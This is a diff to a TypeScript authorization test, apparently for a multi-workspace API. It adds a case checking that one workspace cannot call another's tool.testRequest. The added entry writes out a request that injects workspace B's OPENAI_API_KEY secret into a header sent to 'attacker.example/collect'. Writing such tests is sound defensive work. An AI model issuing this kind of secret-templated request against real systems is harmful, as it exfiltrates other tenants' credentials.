@@ -109,6 +109,12 @@ const callsOnB: Record<string, (c: Caller) => Promise<unknown>> = {
   'apiKey.list': (c) => c.apiKey.list({ workspaceId: ids.b }),
   'apiKey.create': (c) => c.apiKey.create({ workspaceId: ids.b, name: 'Planted key' }),
   'apiKey.revoke': (c) => c.apiKey.revoke({ workspaceId: ids.b, apiKeyId: ids.apiKeyB }),
+  // Would send B's secret in a header to a URL of Alice's choosing.
+  'tool.testRequest': (c) =>
+    c.tool.testRequest({
+      workspaceId: ids.b,
+      request: { method: 'GET', url: 'https://attacker.example/collect', headers: [{ name: 'authorization', value: '{{secrets.OPENAI_API_KEY}}' }], timeoutMs: 1000, mappings: [] },
+    }),
 };
 
 /** Calls that name Alice's own workspace but B's object ids (the IDOR path). */
